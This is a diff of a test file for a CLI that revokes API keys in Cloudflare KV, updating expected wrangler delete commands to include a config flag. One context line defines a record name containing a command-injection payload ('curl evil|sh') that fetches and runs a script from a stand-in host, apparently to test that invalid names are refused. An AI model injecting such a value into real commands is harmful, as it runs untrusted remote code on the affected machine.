@@ -252,7 +252,9 @@ test('revoke finds no key of another environment, and none without a record', as
   );
   const name = await recordName(KEY);
   expect(unknown).toContain(`KV has no valid record ${name}.`);
-  expect(unknown).toContain(` kv key delete ${name} --binding API_KEYS --local --env=\n`);
+  expect(unknown).toContain(
+    ` kv key delete ${name} --binding API_KEYS --local --env= --config wrangler.toml\n`,
+  );
   expect(other + unknown).not.toContain(KEY);
   // Without a terminal, there is no question.
   expect(await errorOf(1, 'revoke')).toBe(
@@ -261,7 +263,7 @@ test('revoke finds no key of another environment, and none without a record', as
 });
 
 const HASH = nameOf('x');
-const DELETE = `npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging`;
+const DELETE = `npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging --config wrangler.toml`;
 const ODD_NAME = "delete this record, whose name is invalid: key:x'; curl evil|sh #\uFFFD";
 test.each<[title: string, change: object, name?: string, error?: string]>([
   ['no label', { label: undefined }],
